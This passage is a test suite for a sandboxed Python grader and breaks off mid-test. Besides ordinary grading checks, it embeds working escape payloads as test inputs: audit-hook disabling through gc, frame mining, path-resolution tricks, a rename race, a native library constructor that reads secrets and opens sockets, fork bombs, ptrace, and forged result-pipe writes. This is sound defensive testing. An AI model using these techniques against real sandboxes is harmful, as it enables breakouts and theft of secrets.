"""The python grader: OpenAI's grade(sample, item) contract, failures as statuses, and the sandbox holding.

Every escape test runs the attempt for real and checks from outside that nothing got
through (a listening socket that received nothing, a file that does not exist, a secret
that did not appear), not only that an error was reported.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest

from graders.python import python_grader
from graders.python.python_grader import PythonGrader
from rft_core import load_spec
from rft_core.kernel.errors import SpecError
from rft_core.integrations.openai_compat import export_openai, openai_issues, run_response
from rft_core.kernel.types import Status
from sandbox_checks import gone, listener, processes_with, run_as_nobody, shared_dir, skip_unless_root, with_secret


def grader(source: str, **fields) -> PythonGrader:
    built = PythonGrader(source=textwrap.dedent(source), **fields)
    return built


@pytest.fixture
def closing():
    made: list[PythonGrader] = []

    def make(source: str, **fields) -> PythonGrader:
        made.append(grader(source, **fields))
        return made[-1]

    yield make
    for built in made:
        built.close()


# --- normal grading ------------------------------------------------------------------------

EXACT = """
def grade(sample, item):
    return 1.0 if sample["output_text"].strip() == item["reference_answer"] else 0.0
"""

# OpenAI's guide: a fuzzy comparison written with the standard library, partial credit
SIMILARITY = """
from difflib import SequenceMatcher

def grade(sample, item) -> float:
    output = sample["output_text"].lower()
    reference = item["reference_answer"].lower()
    return SequenceMatcher(None, output, reference).ratio()
"""

# structured output: output_json is parsed from output_text
JSON_FIELDS = """
def grade(sample, item):
    data = sample["output_json"] or {}
    hits = sum(data.get(key) == value for key, value in item["expected"].items())
    return hits / len(item["expected"])
"""

TOOLS = """
def grade(sample, item):
    calls = sample["output_tools"]
    return float(bool(calls) and calls[0]["function"]["name"] == item["tool"])
"""


@pytest.mark.parametrize(
    ("source", "sample", "item", "reward"),
    [
        # exact match, and a miss
        (EXACT, " Paris ", {"reference_answer": "Paris"}, 1.0),
        (EXACT, "Lyon", {"reference_answer": "Paris"}, 0.0),
        # partial credit through difflib
        (SIMILARITY, "abcd", {"reference_answer": "abce"}, 0.75),
        # one of two fields right
        (JSON_FIELDS, '{"a": 1, "b": 3}', {"expected": {"a": 1, "b": 2}}, 0.5),
        # a tool call in Chat Completions shape
        (TOOLS, {"output_text": "", "output_tools": [{"type": "function", "function": {"name": "search", "arguments": "{}"}}]},
         {"tool": "search"}, 1.0),
        # an int is a number
        ("def grade(sample, item):\n    return 1\n", "x", {}, 1.0),
    ],
    ids=["exact", "miss", "similarity", "json", "tools", "int"],
)
def test_grades(closing, source, sample, item, reward):
    result = closing(source).grade(sample, item)
    assert result.status is Status.OK, result.reason
    assert result.reward == pytest.approx(reward)


def test_worker_is_reused_and_batch_keeps_order(closing):
    built = closing(EXACT)
    results = built.grade_batch(["a", "b", "c"], [{"reference_answer": "a"}, {"reference_answer": "x"}, {"reference_answer": "c"}])
    assert [r.reward for r in results] == [1.0, 0.0, 1.0]
    assert built.grade("a", {"reference_answer": "a"}).reward == 1.0
    assert built.started == 1


def test_each_sample_gets_fresh_globals(closing):
    built = closing("""
        seen = []
        def grade(sample, item):
            seen.append(1)
            return float(len(seen))
    """)
    assert [built.grade("x", {}).reward for _ in range(3)] == [1.0, 1.0, 1.0]


def test_top_level_imports_are_the_ones_preloaded(closing):
    """The module body finds its top-level imports loaded before it runs them; imports under a block or in
    a function are not preloaded (modules the sandbox itself never imports)."""
    built = closing("""
        import sys
        NAMES = ("wave", "xml.dom.minidom", "colorsys", "graphlib", "tomllib")
        SEEN = sorted(name for name in NAMES if name in sys.modules)
        import wave, xml.dom.minidom
        from colorsys import rgb_to_hsv
        if True:
            import graphlib
        def helper():
            import tomllib
        def grade(sample, item):
            return 1.0 if SEEN == ["colorsys", "wave", "xml.dom.minidom"] else 0.0
    """)
    assert built.grade("x", {}).reward == 1.0


def test_pass_threshold_sets_passed(closing):
    result = closing(SIMILARITY, pass_threshold=0.5).grade("abcd", {"reference_answer": "abce"})
    assert result.metadata["passed"] is True


def test_spec_loads_openai_json_and_is_portable():
    spec = {"type": "python", "name": "exact", "source": EXACT, "image_tag": "2025-05-08", "timeout": 5}
    built = load_spec(spec)
    try:
        assert built.grade("Paris", {"reference_answer": "Paris"}).reward == 1.0
    finally:
        built.close()
    assert openai_issues(spec) == []
    assert export_openai(spec) == {"type": "python", "name": "exact", "source": EXACT, "image_tag": "2025-05-08"}


def test_pickles_without_its_worker(closing):
    built = closing(EXACT)
    built.grade("a", {"reference_answer": "a"})
    copy = pickle.loads(pickle.dumps(built))
    try:
        started = copy.started
        assert copy.grade("a", {"reference_answer": "a"}).reward == 1.0
        assert copy.started == started + 1  # no worker came with it: grading started one
    finally:
        copy.close()


# --- failures --------------------------------------------------------------------------------


def test_exception_is_a_runtime_error_with_the_traceback(closing):
    result = closing("""
        def grade(sample, item):
            return item["missing"]
    """).grade("x", {})
    assert (result.status, result.reward) == (Status.ERROR, 0.0)
    assert result.error_code == "python_grader_runtime_error"
    assert 'File "<grader>", line 3, in grade' in result.reason
    assert "KeyError: 'missing'" in result.reason
    flags = run_response(PythonGrader(source=EXACT), result, 0.0)["metadata"]["errors"]
    assert flags["python_grader_runtime_error"] is True
    assert flags["python_grader_runtime_error_details"] == result.reason


@pytest.mark.parametrize(
    ("returned", "message"),
    [
        ("'0.5'", "grade() returned str '0.5', not a float"),
        ("None", "grade() returned NoneType None, not a float"),
        ("True", "grade() returned bool True, not a float"),
        ("float('nan')", "grade() returned nan, not a finite float"),
        ("float('inf')", "grade() returned inf, not a finite float"),
    ],
    ids=["string", "none", "bool", "nan", "inf"],
)
def test_invalid_reward(closing, returned, message):
    result = closing(f"def grade(sample, item):\n    return {returned}\n").grade("x", {})
    assert (result.status, result.reward) == (Status.ERROR, 0.0)
    assert result.error_code == "python_grader_runtime_error"
    assert result.reason == f"python: {message}"


@pytest.mark.parametrize(
    ("source", "message"),
    [
        ("def grade(sample, item)\n    return 1\n", "the python source does not parse: expected ':' (line 1)"),
        ("def score(sample, item):\n    return 1\n", "the python source defines no function grade(sample, item)"),
    ],
    ids=["syntax", "no-grade"],
)
def test_source_errors_fail_the_spec_load(source, message):
    with pytest.raises(SpecError) as caught:
        load_spec({"type": "python", "source": source})
    assert message in str(caught.value)


def test_load_failure_found_only_by_running_is_a_parse_error(closing):
    built = closing("grade = 42\n")  # a name the parser sees, but not a function
    result = built.grade("x", {})
    assert result.status is Status.ERROR
    assert result.error_code == "python_grader_parse_error"
    assert "defines no function grade(sample, item)" in result.reason
    flags = run_response(built, result, 0.0)["metadata"]["errors"]
    assert flags["python_grader_runtime_error"] is True


def test_a_load_error_is_remembered(closing):
    built = closing("grade = 42\n")
    first, second = built.grade("x", {}), built.grade("y", {})
    assert first.reason == second.reason
    assert built.started == 1  # the second sample did not start a worker to fail the same way


def test_a_module_body_that_never_finishes_is_a_timeout(closing):
    built = closing("""
        while True:
            pass
        def grade(sample, item):
            return 1.0
    """, timeout=0.5)
    result = built.grade("x", {})
    assert result.status is Status.TIMEOUT
    assert result.reason == "python: the python source did not finish loading within 0.5s"


# --- the audit hook (defence in depth; alone with isolation: none) ---------------------------------


def test_network_connection_is_refused(closing):
    server = listener()
    port = server.getsockname()[1]
    try:
        result = closing(f"""
            import socket
            def grade(sample, item):
                connection = socket.create_connection(("127.0.0.1", {port}), timeout=2)
                connection.sendall(b"stolen")
                return 1.0
        """).grade("x", {})
        assert result.status is Status.ERROR
        assert "SandboxViolation: the python grader sandbox refuses socket." in result.reason
        with pytest.raises(socket.timeout):
            server.accept()  # nobody connected
    finally:
        server.close()


def test_fork_bomb_is_refused_at_the_first_fork(closing):
    result = closing("""
        import os
        def grade(sample, item):
            while True:
                os.fork()
    """, timeout=10).grade("x", {})
    assert result.status is Status.ERROR  # refused, not timed out: no fork ran
    assert "SandboxViolation: the python grader sandbox refuses os.fork" in result.reason


@pytest.mark.parametrize(
    "attempt",
    [
        "import subprocess\n    subprocess.run(['true'])",
        "import os\n    os.system('true')",
        "import os\n    os.posix_spawn('/bin/true', ['true'], {})",
        "import os\n    os.kill(os.getppid(), 9)",
        "import ctypes",
    ],
    ids=["subprocess", "system", "posix_spawn", "kill", "ctypes"],
)
def test_process_and_native_escapes_are_refused(closing, attempt):
    # the standard-library mode's guards (with site_packages, ctypes loads before the hook: the sandbox contains it)
    result = closing(f"def grade(sample, item):\n    {attempt}\n    return 1.0\n", site_packages=False).grade("x", {})
    assert result.status is Status.ERROR
    assert "SandboxViolation" in result.reason


@pytest.mark.parametrize(
    ("isolation", "refusal"),
    [
        ("none", ("SandboxViolation: the python grader sandbox refuses writing",)),
        # in the sandbox the host path is absent, or the audit hook (defence in depth) refuses it first
        ("sandbox", ("FileNotFoundError", "SandboxViolation: the python grader sandbox refuses writing")),
    ],
)
def test_writing_to_the_parents_home_is_refused(closing, tmp_path, monkeypatch, isolation, refusal):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))  # the grader must not see or use it either
    target = home / "owned.txt"
    result = closing(f"""
        def grade(sample, item):
            with open({str(target)!r}, "w") as handle:
                handle.write("owned")
            return 1.0
    """, isolation=isolation).grade("x", {})
    assert result.status is Status.ERROR
    assert any(reason in result.reason for reason in refusal)
    assert not target.exists()


@pytest.mark.parametrize(
    "tamper",
    [
        # the worker runs as __main__: its helpers are the obvious thing to patch
        "import __main__\n    __main__._within = lambda *a: True\n    __main__._resolve = lambda p: None",
        # the hook must not resolve paths through functions the grader can replace
        "import os.path, posixpath\n    os.path.realpath = posixpath.realpath = lambda p, **k: '/tmp'",
        "import builtins\n    builtins.any = builtins.all = lambda it: True",
        # a trace function can rewrite a running frame's locals, the hook's among them
        "import sys\n    sys.settrace(lambda *a: None)",
        # a directory descriptor outside the scratch dir would make dir_fd= paths escape the check
        "import os\n    os.open(os.path.dirname(target), os.O_RDONLY)",
        # and a changed working directory would make relative paths mean something else
        "import os\n    os.chdir(os.path.dirname(target))",
        # a path object whose __fspath__ answers the hook differently from the C open call
        "class Shifty:\n"
        "        calls = 0\n"
        "        def __fspath__(self):\n"
        "            Shifty.calls += 1\n"
        "            return 'scratch.txt' if Shifty.calls % 2 else target\n"
        "    open(Shifty(), 'w').write('owned')",
        # a str subclass whose methods would run inside the hook
        "class Sly(str):\n"
        "        def startswith(self, *a):\n"
        "            return True\n"
        "        def split(self, *a):\n"
        "            import os\n"
        "            return os.getcwd().split('/') + ['scratch.txt']\n"
        "    open(Sly(target), 'w').write('owned')",
    ],
    ids=["main-globals", "realpath", "builtins", "settrace", "dir-fd", "chdir", "fspath", "str-subclass"],
)
def test_tampering_does_not_open_the_sandbox(closing, tmp_path, tamper):
    target = tmp_path / "owned.txt"
    tamper = tamper.replace("\n    ", "\n        ")  # one level deeper, inside the try
    source = (
        "def grade(sample, item):\n"
        f"    target = {str(target)!r}\n"
        "    try:\n"
        f"        {tamper}\n"
        "    except PermissionError:\n"
        "        pass\n"
        "    with open(target, 'w') as handle:\n"
        "        handle.write('owned')\n"
        "    return 1.0\n"
    )
    result = closing(source, isolation="none").grade("x", {})
    assert result.status is Status.ERROR
    assert "SandboxViolation" in result.reason
    assert not target.exists()


FRAME_MINING = """
import os

def grade(sample, item):
    target = TARGET
    try:
        open(target, "w")
    except PermissionError as exc:
        tb = exc.__traceback__
        while tb.tb_next is not None:
            tb = tb.tb_next
        seen, stack = set(), list(tb.tb_frame.f_locals.values())  # the audit hook's own frame
        while stack:
            value = stack.pop()
            if id(value) in seen:
                continue
            seen.add(id(value))
            for cell in getattr(value, "__closure__", None) or ():
                contents = cell.cell_contents
                if getattr(contents, "__name__", "") == "join":
                    cell.cell_contents = lambda parts: os.getcwd() + "/scratch.txt"
                stack.append(contents)
            for default in getattr(value, "__defaults__", None) or ():
                stack.append(default)
            try:
                value.__defaults__ = tuple(
                    (lambda parts: os.getcwd() + "/scratch.txt") if getattr(d, "__name__", "") == "join" else d
                    for d in value.__defaults__ or ()
                )
            except (AttributeError, TypeError, PermissionError):
                pass
    with open(target, "w") as handle:
        handle.write("owned")
    return 1.0
"""


def test_the_hooks_frame_in_a_traceback_gives_no_handle_on_it(closing, tmp_path):
    # a refusal's traceback holds the audit hook's frame: its locals must not lead to state that changes the hook
    target = tmp_path / "owned.txt"
    result = closing(FRAME_MINING.replace("TARGET", repr(str(target))), isolation="none").grade("x", {})
    assert result.status is Status.ERROR
    assert "SandboxViolation" in result.reason
    assert not target.exists()


SCRATCH_WRITER = """
import os
def grade(sample, item):
    home = os.path.expanduser("~")
    seen = os.listdir(home)
    with open(os.path.join(home, "scratch.txt"), "w") as handle:
        handle.write("ok")
    assert os.getcwd() == home == os.environ["TMPDIR"]
    return float(len(seen))
"""


@pytest.mark.parametrize("isolation", ["sandbox", "none"])
def test_scratch_is_home_and_empty_for_every_sample(closing, tmp_path, monkeypatch, isolation):
    monkeypatch.setenv("HOME", str(tmp_path))
    built = closing(SCRATCH_WRITER, isolation=isolation)
    assert [result.reward for result in built.grade_batch(["x", "y"], [{}, {}])] == [0.0, 0.0]
    assert list(tmp_path.iterdir()) == []


def test_without_isolation_the_scratch_directory_goes_with_the_worker(closing, tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    built = closing("""
        import os
        def grade(sample, item):
            if item.get("where"):
                raise RuntimeError(f"WHERE {os.getcwd()} {os.getppid()} END")
            with open("scratch.txt", "w") as handle:
                handle.write("ok")
            return 1.0
    """, isolation="none")
    assert built.grade("x", {}).status is Status.OK
    workdir, _ = where(built)
    assert workdir != str(tmp_path) and os.path.isdir(workdir)
    built.close()
    assert not os.path.exists(workdir)  # removed with the worker


def test_environment_secrets_are_not_visible(closing, monkeypatch):
    monkeypatch.setenv("RFT_TEST_SECRET", "hunter2")
    result = closing("""
        import os
        def grade(sample, item):
            if "RFT_TEST_SECRET" in os.environ or "hunter2" in repr(os.environ):
                return 1.0
            try:
                text = open(f"/proc/{os.getppid()}/environ", "rb").read()
            except PermissionError:
                return 0.0
            return 1.0 if b"hunter2" in text else 0.5
    """).grade("x", {})
    assert (result.status, result.reward) == (Status.OK, 0.0)


def test_infinite_loop_times_out_and_the_sandbox_serves_the_next_sample(closing):
    built = closing("""
        def grade(sample, item):
            if item.get("loop"):
                while True:
                    pass
            return 1.0
    """, timeout=1)
    assert built.grade("x", {}).reward == 1.0
    result = built.grade("x", {"loop": True})
    assert result.status is Status.TIMEOUT
    assert result.error_code == "timeout_error"
    assert result.reason == "python: grade() did not return within 1s"
    assert built.grade("x", {}).reward == 1.0
    assert built.started == 1  # only the sample's process was killed


def test_memory_hog_is_an_error_and_the_next_grade_works(closing):
    built = closing("""
        def grade(sample, item):
            if item.get("hog"):
                hoard = bytearray(1 << 30)
            return 1.0
    """, memory_mb=256)
    result = built.grade("x", {"hog": True})
    assert (result.status, result.reward) == (Status.ERROR, 0.0)
    assert result.error_code == "python_grader_runtime_error"
    assert "MemoryError" in result.reason
    assert built.grade("x", {}).reward == 1.0


def test_cpu_limit_ends_a_busy_grade(closing):
    built = closing("""
        def grade(sample, item):
            if item.get("spin"):
                while True:
                    pass
            return 1.0
    """, timeout=30, cpu_limit=1)
    result = built.grade("x", {"spin": True})
    assert result.status is Status.TIMEOUT
    assert built.grade("x", {}).reward == 1.0


def test_concurrent_grades_share_one_worker(closing):
    built = closing(EXACT)
    rewards: list[float] = []

    def run() -> None:
        rewards.append(built.grade("a", {"reference_answer": "a"}).reward)

    threads = [threading.Thread(target=run) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert rewards == [1.0] * 4
    assert built.started == 1


def test_gc_is_refused_in_the_standard_library_mode(closing):
    # gc.get_objects() would reach the audit hook's function and its closure
    result = closing("def grade(sample, item):\n    import gc\n    return 1.0\n", site_packages=False).grade("x", {})
    assert "SandboxViolation: the python grader sandbox refuses importing gc" in result.reason


def test_site_packages_imports_installed_packages_and_keeps_the_guards(closing):
    pytest.importorskip("numpy")
    built = closing("""
        import numpy
        def grade(sample, item):
            if item.get("attempt") == "dlopen":
                import ctypes
                ctypes.CDLL("libc.so.6")
            if item.get("attempt") == "subprocess":
                import subprocess
                subprocess.run(["true"])
            return float(numpy.mean([0.0, 1.0]))
    """, site_packages=True, timeout=30)
    assert built.grade("x", {}).reward == 0.5
    assert "refuses ctypes.dlopen" in built.grade("x", {"attempt": "dlopen"}).reason
    assert "refuses subprocess.Popen" in built.grade("x", {"attempt": "subprocess"}).reason
    # with site_packages: false numpy cannot be found at all
    missing = closing("import numpy\ndef grade(sample, item):\n    return 1.0\n", site_packages=False).grade("x", {})
    assert "ModuleNotFoundError: No module named 'numpy'" in missing.reason


@pytest.mark.parametrize(
    ("fields", "site_packages"),
    [({}, True), ({"isolation": "none"}, False), ({"site_packages": False}, False),
     ({"isolation": "none", "site_packages": True}, True)],
    ids=["sandbox_default", "no_isolation_default", "set_false", "set_true"],
)
def test_site_packages_defaults_to_true_only_inside_the_sandbox(fields, site_packages):
    assert grader(EXACT, **fields).site_packages is site_packages


WHERE = """
import os
def grade(sample, item):
    if item.get("where"):
        raise RuntimeError(f"WHERE {os.getcwd()} {os.getppid()} END")  # the work folder and the worker's pid
    return 1.0 if sample["output_text"].strip() == item.get("reference_answer") else 0.0
"""


def where(built: PythonGrader) -> tuple[str, int]:
    """The work folder and the worker process of a grader whose source handles {"where": true} as WHERE's."""
    reason = built.grade("x", {"where": True}).reason
    folder, pid = reason.rsplit("WHERE ", 1)[1].split(" END", 1)[0].rsplit(" ", 1)  # the message, not the source line
    return folder, int(pid)


def alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as stat:
            return stat.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def test_a_dropped_grader_leaves_no_process_or_directory():
    built = grader(WHERE, isolation="none")
    assert built.grade("a", {"reference_answer": "a"}).reward == 1.0
    workdir, worker = where(built)
    assert alive(worker) and os.path.isdir(workdir)
    del built
    import gc

    gc.collect()
    deadline = time.monotonic() + 10
    while alive(worker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not alive(worker)
    assert not os.path.exists(workdir)


def children() -> set[int]:
    """The live child processes of this process."""
    found = set()
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{entry}/stat") as stat:
                fields = stat.read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == os.getpid() and fields[0] != "Z":
            found.add(int(entry))
    return found


def test_a_forked_child_does_not_touch_the_parents_worker(closing):
    built = closing(EXACT)
    built.grade("a", {"reference_answer": "a"})
    parent_worker = children()
    assert parent_worker  # the grader's worker (its sandbox) is among this process's children
    pid = os.fork()
    if pid == 0:  # the child grades with a worker of its own and drops the parent's copy
        code = 0 if built.grade("a", {"reference_answer": "a"}).reward == 1.0 else 1
        built.close()
        os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0
    assert parent_worker <= children()  # still running
    assert built.grade("a", {"reference_answer": "a"}).reward == 1.0


def test_writing_into_the_result_pipe_is_an_error_row(closing):
    built = closing("""
        import os
        def grade(sample, item):
            if item.get("forge"):
                for fd in range(3, 10):
                    try:
                        os.write(fd, b"not json\\n")
                    except OSError:
                        pass
            return 1.0
    """)
    result = built.grade("x", {"forge": True})
    assert (result.status, result.error_code) == (Status.ERROR, "python_grader_runtime_error")
    assert result.reason == "python: the grader's process wrote something other than one result: " \
        "b'not json\\n{\"reward\": 1.0}\\n'"
    assert built.grade("x", {}).reward == 1.0
    assert built.started == 1


def test_a_batch_with_a_source_that_fails_to_load_fails_each_sample_once(closing):
    built = closing("grade = None\n")
    results = built.grade_batch(["a", "b"], [{}, {}])
    assert [r.error_code for r in results] == ["python_grader_parse_error"] * 2
    assert built.started == 1


# --- OS isolation: the issue's escapes and the classics, run as root and as uid 65534 ----------------
# The audit hook is switched off first (as the issue's attacker did, through gc), so what these tests
# see is the sandbox itself. Each payload returns a bit mask of what got through; 32 says the hook
# was off. Everything is also checked from outside: a listener, files, host processes.

HOOK_OFF = """
import importlib, os, posix, socket, sys

def hook_off():
    gc = importlib.import_module("gc")  # no import event: the hook never sees it
    for obj in gc.get_objects():
        if type(obj).__name__ == "function" and obj.__name__ == "hook" and "refuses" in repr(obj.__code__.co_consts):
            obj.__code__ = (lambda event, args: None).__code__
    os.listdir("/")  # refused while the hook is on
    return 32

def attempts(params):
    found = hook_off()
    if "SECRET_TOKEN" in os.environ:
        found |= 1
    try:
        if "hunter2" in open(params["secret"]).read():
            found |= 2
    except OSError:
        pass
    try:
        open(params["target"], "w").write("owned")
        found |= 4
    except OSError:
        pass
    try:
        socket.create_connection(("127.0.0.1", params["port"]), 1).sendall(b"stolen")
        found |= 8
    except OSError:
        pass
    child = posix.fork()  # os.fork is replaced; posix's is not
    if child == 0:
        posix.setsid()
        if posix.fork() == 0:
            posix.execv("/usr/bin/sleep", ["sleep", params["marker"]])
        posix._exit(0)
    posix.waitpid(child, 0)
    return found
"""

# a shared library whose constructor runs when the import machinery dlopens it: native code,
# no Python headers needed; it writes what got through to a file in the scratch directory
NATIVE = r"""
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void escape(void) {
    int port = 0, found = 64;
    char secret[512] = "", target[512] = "", marker[64] = "", text[64] = "";
    FILE *params = fopen("params.txt", "r");
    if (!params || fscanf(params, "%d %511s %511s %63s", &port, secret, target, marker) != 4) return;
    fclose(params);
    if (getenv("SECRET_TOKEN")) found |= 1;
    int fd = open(secret, O_RDONLY);
    if (fd >= 0 && read(fd, text, sizeof text - 1) > 0 && strstr(text, "hunter2")) found |= 2;
    if (open(target, O_WRONLY | O_CREAT, 0644) >= 0) found |= 4;
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    if (sock >= 0 && connect(sock, (struct sockaddr *)&address, sizeof address) == 0) found |= 8;
    if (fork() == 0) {
        setsid();
        if (fork() == 0) execl("/usr/bin/sleep", "sleep", marker, (char *)NULL);
        _exit(0);
    }
    FILE *out = fopen("native.out", "w");
    if (out) { fprintf(out, "%d", found); fclose(out); }
}
"""

NATIVE_IMPORT = """
import importlib, os, sys

def attempts(params):
    with open("params.txt", "w") as handle:
        handle.write(f"{params['port']} {params['secret']} {params['target']} {params['marker']}")
    with open("escape.so", "wb") as handle:
        handle.write(bytes.fromhex(params["library"]))
    sys.path.insert(0, os.getcwd())
    try:
        importlib.import_module("escape")  # dlopen runs the constructor, then the import fails
    except ImportError:
        pass
    return int(open("native.out").read())
"""

# the issue's rename race: the hook resolves b/(c/..)*/../../../x lexically inside the scratch
# directory while a thread moves b up and down, so the kernel may resolve it outside
RENAME_RACE = """
import os, threading, time

def attempts(params):
    os.makedirs("a1/a2/b/c")
    stop = []
    def flip():
        while not stop:
            try:
                os.rename("a1/a2/b", "b")
                os.rename("b", "a1/a2/b")
            except OSError:
                pass
    thread = threading.Thread(target=flip)
    thread.start()
    found, deadline = 0, time.monotonic() + 1.5
    walk = "a1/a2/b/" + "c/../" * 20 + "../../../.." * 4
    while time.monotonic() < deadline:
        try:
            open(walk + params["target"], "w").write("owned")
            found |= 4
        except OSError:
            pass
        try:
            if "hunter2" in open(walk + params["secret"]).read():
                found |= 2
        except OSError:
            pass
    stop.append(1)
    thread.join()
    return found
"""

GRADE_WITH_ATTEMPTS = """
def grade(sample, item):
    return float(attempts(item))
"""

NOBODY_DRIVER = """
import json
from graders.python.python_grader import PythonGrader
job = json.loads(JOB)
built = PythonGrader(source=job["source"], **job["fields"])
results = built.grade_batch(job["samples"], job["items"])
built.close()
print(json.dumps([[result.status.value, result.reward, result.reason] for result in results]))
"""


@pytest.fixture(params=["root", pytest.param("nobody", marks=skip_unless_root)])
def grade_as(request, monkeypatch):
    """grade_as(source, items, **fields) -> [(status, reward, reason)]: rft run by root, or by uid 65534."""

    def grade_rows(source: str, items: list[dict], **fields) -> list[tuple]:
        samples = ["x"] * len(items)
        if request.param == "nobody":
            job = {"source": source, "fields": fields, "samples": samples, "items": items}
            rows = run_as_nobody(NOBODY_DRIVER.replace("JOB", repr(json.dumps(job))), env={"SECRET_TOKEN": "hunter2"})
            return [tuple(row) for row in rows]
        monkeypatch.setenv("SECRET_TOKEN", "hunter2")
        built = PythonGrader(source=source, **fields)
        try:
            return [(result.status.value, result.reward, result.reason) for result in built.grade_batch(samples, items)]
        finally:
            built.close()

    return grade_rows


@pytest.fixture
def bait():
    """What an escape would reach: a listener on 127.0.0.1, a readable secret file, a writable target
    path, and a unique marker for any process left behind."""
    directory = shared_dir()
    secret = with_secret(directory)
    server = listener()
    params = {
        "port": server.getsockname()[1], "secret": str(secret), "target": str(directory / "owned.txt"),
        "marker": f"297.{uuid.uuid4().int % 10**9}",
    }
    yield params
    try:
        with pytest.raises(socket.timeout):
            server.accept()  # nobody connected
        assert not (directory / "owned.txt").exists()
        assert gone(params["marker"])
    finally:
        server.close()
        shutil.rmtree(directory)


def test_gc_hook_replacement_then_fork_exec_and_setsid_stay_inside(grade_as, bait):
    rows = grade_as(HOOK_OFF + GRADE_WITH_ATTEMPTS, [bait, {}])
    assert rows[0] == ("ok", 32.0, None)  # the hook was off, and nothing else got through


def test_a_compiled_library_imported_from_scratch_stays_inside(grade_as, bait, tmp_path):
    if shutil.which("gcc") is None:
        pytest.skip("gcc is needed to build the library")
    (tmp_path / "escape.c").write_text(NATIVE)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(tmp_path / "escape.so"), str(tmp_path / "escape.c")], check=True)
    item = {**bait, "library": (tmp_path / "escape.so").read_bytes().hex()}
    rows = grade_as(NATIVE_IMPORT + GRADE_WITH_ATTEMPTS, [item])
    assert rows[0] == ("ok", 64.0, None)  # its constructor ran, and nothing got through


def test_the_rename_race_stays_inside(grade_as, bait):
    rows = grade_as(RENAME_RACE + GRADE_WITH_ATTEMPTS, [bait], timeout=30)
    assert rows[0] == ("ok", 0.0, None)


def test_a_fork_bomb_and_a_disk_fill_end_inside_and_leave_nothing_behind(grade_as):
    source = HOOK_OFF + """
def grade(sample, item):
    hook_off()
    if item["attack"] == "fork bomb":
        while True:
            posix.fork()
    if item["attack"] == "disk fill":
        written = 0
        try:
            with open("fill", "wb") as sink:
                while True:
                    written += sink.write(b"x" * (1 << 20))
        except OSError:
            return float(written >> 20)
    return float(len(os.listdir(".")) + len(os.listdir("/dev/shm")))
"""
    rows = grade_as(source, [{"attack": "fork bomb"}, {"attack": "none"}, {"attack": "disk fill"}, {"attack": "none"}],
                    timeout=20)
    assert rows[0][0] == "error"  # forks fail at the process limit: an exception, or a garbled result
    assert rows[1] == ("ok", 0.0, None)
    assert rows[2][0] == "ok" and rows[2][1] <= 64  # MiB: the scratch tmpfs is full
    assert rows[3] == ("ok", 0.0, None)  # the next sample finds an empty scratch directory


def test_ptrace_and_mknod_are_refused_in_a_sample(grade_as):
    source = HOOK_OFF + """
def grade(sample, item):
    hook_off()
    import ctypes, stat
    libc = ctypes.CDLL(None, use_errno=True)
    found = 0
    if libc.ptrace(16, 1, 0, 0) == 0:  # PTRACE_ATTACH to the supervisor
        found |= 1
    try:
        os.mknod("dev", stat.S_IFCHR | 0o666, os.makedev(1, 1))
        found |= 2
    except OSError:
        pass
    return float(found)
"""
    assert grade_as(source, [{}]) == [("ok", 0.0, None)]


FORGERY = """
import os, sys, threading, time

def grade(sample, item):
    frame = sys._getframe(1)  # the sample process's own code, holding its result pipe
    fd = frame.f_locals["result_fd"]
    if item["forge"] == "thread":  # a thread forging later samples' results through every descriptor
        def forge():
            while True:
                for target in range(64):
                    for line in (b'{"id": 1, "reward": 0.123}\\n', b'{"reward": 0.123}\\n'):
                        try:
                            os.write(target, line)
                        except OSError:
                            pass
                time.sleep(0.001)
        threading.Thread(target=forge, daemon=True).start()
        time.sleep(0.1)
        return 0.5
    if item["forge"]:
        os.write(fd, item["forge"].encode() + b"\\n")
        os._exit(0)
    return float(item["value"])
"""


@pytest.mark.parametrize(
    "forged",
    ['{"id": 0, "reward": "abc"}', '{"reward": NaN}', '{"reward": Infinity}', '{"reward": "abc"}', '{"reward": true}',
     '{"reward": 1e999}', '{"reward": 1.0, "id": 5}'],
)
def test_forged_results_are_error_rows(closing, forged):
    built = closing(FORGERY)
    forged_row, honest = built.grade_batch(["x", "y"], [{"forge": forged}, {"forge": "", "value": 0.25}])
    assert (forged_row.status, forged_row.reward) == (Status.ERROR, 0.0)
    assert forged_row.reason.startswith("python: the grader's process wrote something other than one result")
    assert (honest.status, honest.reward) == (Status.OK, 0.25)


def test_a_background_thread_cannot_forge_later_samples(grade_as):
    rows = grade_as(FORGERY, [{"forge": "thread"}] + [{"forge": "", "value": value} for value in (0.25, 0.5, 0.75)])
    assert rows[0][0] == "error"  # its own pipe got the forged lines
    assert rows[1:] == [("ok", 0.25, None), ("ok", 0.5, None), ("ok", 0.75, None)]


def test_nothing_a_sample_changes_reaches_the_next(closing):
    built = closing("""
        import builtins, json, os, sys, threading, time

        def grade(sample, item):
            if item["first"]:
                json.loads = lambda *args, **kwargs: "patched"
                builtins.sorted = lambda *args, **kwargs: "patched"
                os.environ["PLANTED"] = "1"
                sys.setrecursionlimit(60)
                sys.modules["planted"] = json
                open("planted.txt", "w").write("x")
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
                return 0.5
            leftovers = [
                "json" if json.loads("[]") != [] else "", "builtins" if sorted([2, 1]) != [1, 2] else "",
                "environ" if "PLANTED" in os.environ else "", "recursion" if sys.getrecursionlimit() == 60 else "",
                "modules" if "planted" in sys.modules else "", "file" if os.path.exists("planted.txt") else "",
                "thread" if threading.active_count() > 1 else "",
